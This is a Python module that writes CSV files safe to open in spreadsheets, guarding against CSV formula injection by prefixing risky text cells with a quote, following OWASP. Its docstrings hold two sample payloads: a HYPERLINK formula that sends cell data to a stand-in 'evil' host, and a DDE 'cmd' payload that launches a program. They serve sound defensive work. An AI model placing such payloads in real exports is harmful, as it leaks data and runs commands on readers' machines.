"""The one CSV writer: every CSV vein2vein writes is safe to open in a spreadsheet.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula, so a patient code or a comment such
as ``=HYPERLINK("http://evil/?"&A1)`` in an export would act on the reader's machine
("CSV injection", OWASP). Following OWASP's advice, such a text cell is written with a
single quote in front (``'=HYPERLINK(...)``), which spreadsheets show as text; the
csv module quotes separators, quotes and line breaks. Numbers are never touched: a
numeric column stays numeric, and a text cell that is a plain number (``-0.5``,
``+3``, ``-1.2e-3``) is not a formula and is written as it is.

References
----------
OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import os
import re
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any, Final

__all__ = ["FORMULA_PREFIXES", "neutralise_cell", "write_csv"]

FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")
"""Characters that make a spreadsheet read a cell as a formula (OWASP)."""

_PLAIN_NUMBER: Final = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def neutralise_cell(value: Any) -> Any:
    """A cell value that a spreadsheet shows rather than runs.

    Text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, and
    is not a plain number, gets a single quote in front; anything else is returned
    unchanged.

    Examples
    --------
    >>> neutralise_cell("=1+1"), neutralise_cell("@SUM(A1)"), neutralise_cell("-0.5")
    ("'=1+1", "'@SUM(A1)", '-0.5')
    >>> neutralise_cell(-3.0), neutralise_cell("P-01")
    (-3.0, 'P-01')
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        if _PLAIN_NUMBER.match(value):
            return value
        return "'" + value
    return value


def _is_text(series: Any) -> bool:
    import pandas as pd

    dtype = series.dtype
    return bool(
        pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
        or isinstance(dtype, pd.CategoricalDtype)
    )


def _safe_frame(frame: Any, *, index: bool) -> Any:
    """A copy of a DataFrame with its text cells, column names and index neutralised."""
    import pandas as pd

    out = frame.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if _is_text(column):
            out.isetitem(position, column.astype(object).map(neutralise_cell))
    out.columns = pd.Index([neutralise_cell(str(c)) for c in out.columns])
    if index:
        out.index = pd.Index(
            [neutralise_cell(v) if isinstance(v, str) else v for v in out.index],
            name=neutralise_cell(out.index.name)
            if isinstance(out.index.name, str)
            else out.index.name,
        )
    return out


def write_csv(
    table: Any,
    path: str | os.PathLike[str],
    *,
    header: Sequence[str] | None = None,
    index: bool = False,
) -> Path:
    """Write a table as UTF-8 CSV with formula-leading text cells neutralised.

    Parameters
    ----------
    table
        A :class:`pandas.DataFrame`, or rows (sequences, or mappings when ``header``
        names their keys).
    path
        The file to write.
    header
        For rows: the column names (required for mappings).
    index
        For a DataFrame: write its index as the first column(s).

    Returns
    -------
    pathlib.Path
        The file written.

    Raises
    ------
    OSError
        When the file cannot be written (the caller reports it).

    Examples
    --------
    >>> import tempfile, pathlib
    >>> path = pathlib.Path(tempfile.mkdtemp()) / "t.csv"
    >>> _ = write_csv([["P1", "=cmd|' /C calc'!A0", -2.5]], path, header=["id", "note", "x"])
    >>> path.read_text().splitlines()[1]
    "P1,'=cmd|' /C calc'!A0,-2.5"
    """
    target = Path(path)
    if hasattr(table, "to_csv"):
        safe = _safe_frame(table, index=index)
        with target.open("w", newline="", encoding="utf-8") as handle:
            safe.to_csv(handle, index=index)
        return target
    rows: Iterable[Any] = table
    names = None if header is None else [str(h) for h in header]
    with target.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        if names is not None:
            writer.writerow([neutralise_cell(h) for h in names])
        for row in rows:
            if isinstance(row, Mapping):
                if names is None:
                    msg = "rows given as mappings need a header naming their keys"
                    raise TypeError(msg)
                cells = [row.get(h, "") for h in names]
            else:
                cells = list(row)
            writer.writerow([neutralise_cell(c) for c in cells])
    return target
